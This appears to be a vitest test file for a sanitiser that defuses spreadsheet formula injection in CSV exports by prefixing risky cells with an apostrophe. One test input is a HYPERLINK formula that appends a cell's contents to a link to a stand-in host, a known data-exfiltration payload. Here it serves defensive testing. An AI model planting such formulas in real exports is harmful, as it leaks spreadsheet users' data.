import { describe, expect, it } from "vitest";
import { csvCents, csvText, inertText } from "./inert-text.ts";

describe("inertText", () => {
  const harmful: [text: string, inert: string][] = [
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["\n=1", "'\n=1"],
    ["\u0000=1", "'=1"],
    ["＝1+1", "'＝1+1"],
    ["－1", "'－1"],
    ["＋1", "'＋1"],
    ["＠A", "'＠A"],
  ];
  it.each(harmful)("%j becomes %j", (text, inert) => expect(inertText(text)).toBe(inert));

  const harmless: [text: string][] = [["张三"], ["a=1"], ["1-2"], ["6222021234567890123"], [""], ["'quoted"]];
  it.each(harmless)("%j stays", (text) => expect(inertText(text)).toBe(text));
});

describe("fields of a text file", () => {
  it("quotes what would break the record, after making it inert", () => {
    expect(csvText('","=1+1,"')).toBe('""",""=1+1,"""');
    expect(csvText('=HYPERLINK("http://x/"&A1,"k")')).toBe(`"'=HYPERLINK(""http://x/""&A1,""k"")"`);
    expect(csvText("a;b")).toBe('"a;b"');
    expect(csvText("plain")).toBe("plain");
  });
  it("keeps negative amounts numbers", () => {
    expect(csvCents(-1230)).toBe("-12.30");
    expect(csvCents(7)).toBe("0.07");
  });
});
